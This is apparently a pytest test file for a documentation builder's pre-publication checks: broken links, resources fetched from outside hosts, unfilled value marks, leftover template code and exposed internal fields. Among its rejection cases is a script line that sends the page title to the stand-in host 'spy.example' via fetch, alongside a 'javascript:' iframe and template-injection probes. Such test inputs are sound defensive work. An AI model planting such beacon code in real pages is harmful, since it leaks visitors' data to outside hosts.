"""An edition with a fault of any kind is refused, and the fault is told with its place."""

from __future__ import annotations

from datetime import date
from types import SimpleNamespace
from typing import TYPE_CHECKING, cast

import pytest

from handbook import proof
from handbook.errors import CODES, Refused
from handbook.fill.escape import as_text
from handbook.records import Absent, Record
from handbook.slots import Kind, Scope, Slot, mark
from handbook.view import Edition, View

if TYPE_CHECKING:
    from handbook.outputs import Finished

PAGE = '<html><head><link rel="stylesheet" href="a.css"></head>\n<body id="top">{}</body></html>'
PERSON = Record("people[noor]", {"name": "Noor", "email": Absent("people[noor].email")})


def edition(
    body: str = "", *slots: Slot, edition: Edition = Edition.CLIENT, files: dict[str, bytes] | None = None
) -> Finished:
    """Return a finished edition of one page with a body, and a second page beside it."""
    root = Record(
        "", {"id": "acme", "people": (PERSON,), "done": ("one", "two"), "internal": Absent("internal")}
    )
    view = View(edition, date(2027, 1, 1), "en-GB", draft=False, root=root)
    page = SimpleNamespace(path="index.md", slots=slots)
    manuscript = SimpleNamespace(
        name=f"acme/{edition}", view=view, facts={}, site=SimpleNamespace(slots=(), pages=(page,))
    )
    built = {
        "index.html": PAGE.format(body).encode(),
        "people/who.html": b'<body><h2 id="noor">Noor</h2><a name="old"></a></body>',
        "a.css": b"",
    }
    return cast(
        "Finished",
        SimpleNamespace(manuscript=manuscript, files=built | (files or {})),
    )


def refusal(finished: Finished) -> str:
    """Return the words with which the proofs refuse an edition."""
    with pytest.raises(Refused) as refused:
        proof.prove(finished)
    assert {problem.code for problem in refused.value.problems} <= set(CODES)
    return str(refused.value)


def test_a_clean_edition_is_proved() -> None:
    """An edition without a fault passes all proofs."""
    slot = Slot("Noor", Kind.TEXT, ("people[noor].name", "done[2]", "people"))
    body = (
        '<a href="people/who.html#noor">a</a><a href="people/who.html#old">b</a><a href="#top">c</a>'
        '<a href="https://elsewhere.example/">d</a><a href="mailto:noor@acme.example">e</a>'
        '<img src="data:image/png;base64,AAAA">'
    )
    proof.prove(edition(body, slot))


@pytest.mark.parametrize(
    ("body", "words"),
    [
        ('<a href="gone.html">', "leads to 'gone.html', which this edition does not have"),
        ('<a href="people/who.md">', "leads to 'people/who.md', which this edition does not have"),
        ('<a href="people/">', "leads to 'people', which this edition does not have"),
        ('<a href="../index.html">', "leads to '../index.html', which this edition does not have"),
        ('<a href="/index.html">', "leads to '/index.html', which this edition does not have"),
        (
            '<a href="people/who.html#jeroen">',
            "leads to '#jeroen' of 'people/who.html', where nothing has this id",
        ),
        ('<a href="#Top">', "leads to '#Top' of 'index.html', where nothing has this id"),
        ('<img src="logo.png">', "leads to 'logo.png', which this edition does not have"),
    ],
)
def test_a_link_to_nothing_is_told(body: str, words: str) -> None:
    """A link or picture that leads to no file, or to no anchor of a page, refuses the edition."""
    assert refusal(edition(f"\n  {body}")) == (
        f"acme/client/index.html:3:3: a link {words}; "
        "mend the link on the page, or the condition under which it stands there [BUILD-LINK]"
    )


@pytest.mark.parametrize(
    "body",
    [
        '<script src="https://cdn.example/a.js"></script>',
        '<img src="//cdn.example/a.png">',
        '<link rel="preconnect" href="https://fonts.example">',
        '<link rel="stylesheet" href="http://fonts.example/a.css">',
        '<p style="background: url(https://cdn.example/a.png)">',
        "<style>@import 'https://cdn.example/a.css';</style>",
        '<iframe src="https://maps.example"></iframe>',
        '<svg><image href="https://cdn.example/a.png"/></svg>',
        '<img srcset="a.css 1x, https://cdn.example/b.png 2x">',
        '<pre class="mermaid">graph</pre>',
        '<meta http-equiv="Refresh" content="0; url=https://elsewhere.example">',
        '<base href="https://elsewhere.example">',
        '<script>fetch("https://spy.example/?" + document.title)</script>',
        '<iframe src="javascript:1"></iframe>',
    ],
)
def test_what_a_page_loads_from_outside_is_told(body: str) -> None:
    """Everything that a browser would fetch from another host refuses the edition."""
    assert "is loaded from outside the site; put the file into docs/assets/" in refusal(edition(body))


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("a.css", "@font-face { src: url('https://fonts.example/a.woff2') }"),
        ("a.css", "@import '//fonts.example/a.css';"),
        ("assets/js/self-check.js", "import 'https://cdn.example/a.js'"),
        ("assets/js/self-check.js", "fetch(`//spy.example`)"),
        ("assets/logo.svg", '<svg><image href="https://cdn.example/a.png"/></svg>'),
    ],
)
def test_what_other_files_load_from_outside_is_told(path: str, content: str) -> None:
    """Stylesheets, our scripts and drawings fetch nothing from another host either."""
    assert f"acme/client/{path}:1:" in refusal(edition(files={path: content.encode()}))


@pytest.mark.parametrize(
    "left",
    [
        mark(Scope.PAGE, 12),
        mark(Scope.SITE, 0),
        "&#57344;&#57361;",
        "&#xE010;",
        "%EE%80%81",
        '<a href="slot:x">',
    ],
)
def test_a_slot_without_its_value_is_told(left: str) -> None:
    """A mark that no value replaced refuses the edition, however it is written."""
    assert "a value is missing" in refusal(edition(f"<p>{left}</p>"))


def test_a_slot_in_the_search_index_is_told() -> None:
    """A mark is found in JSON too, where it is written as an escape."""
    index = b'{"docs":[{"title":"\\ue000\\ue011\\ue002"}]}'
    assert "search_index.json:1:20: a value is missing" in refusal(
        edition(files={"search_index.json": index})
    )


@pytest.mark.parametrize(
    ("left", "words"),
    [
        ("{{ owner.name }}", "template code was not run"),
        ("{% if x %}", "template code was not run"),
        ("{# note #}", "template code was not run"),
        ('--8<-- "notes.md"', "the guard line of a page was not taken out"),
        ("needs-the-engagement-hook", "the guard line of a page was not taken out"),
        ("Traceback (most recent call last):", "an error was written into the file"),
    ],
)
def test_machinery_in_a_page_is_told(left: str, words: str) -> None:
    """Template code, guards and tracebacks in a page refuse the edition."""
    assert f"index.html:2:16: {words}; nothing was published" in refusal(edition(left))


@pytest.mark.parametrize(
    "typed", ["{{ 7*7 }}", '{% include "a" %}', '--8<-- "engagement.yml"', 'a "{{b}}" & <c>']
)
def test_what_somebody_typed_is_no_leftover(typed: str) -> None:
    """A value that looks like template code is shown as typed, and that is right."""
    proof.prove(edition(as_text(typed), Slot(typed, Kind.TEXT, ("people[noor].name",))))


@pytest.mark.parametrize(
    "field",
    ["internal.notes[1]", "people[noor].internal", "parties[acme].internal.stance", "people[noor].email"],
)
def test_a_field_that_the_edition_may_not_see_is_told(field: str) -> None:
    """A value of an internal field, or of one that the view does not hold, refuses the edition."""
    assert refusal(edition("", Slot("x", Kind.TEXT, (field,)))) == (
        f"acme/client/index.html:1:1: {field}: is shown there, and this edition may not see it; "
        "this is a fault of the handbook itself: nothing was published [BUILD-LEDGER]"
    )


def test_all_faults_are_told_at_once() -> None:
    """One run tells every fault of every proof."""
    words = refusal(edition('<a href="x.html">{{ y }}</a><img src="//z.example">'))
    assert [line.rpartition("[")[2] for line in words.splitlines()] == [
        "BUILD-LEFTOVER]",
        "BUILD-LINK]",
        "BUILD-REQUEST]",
    ]
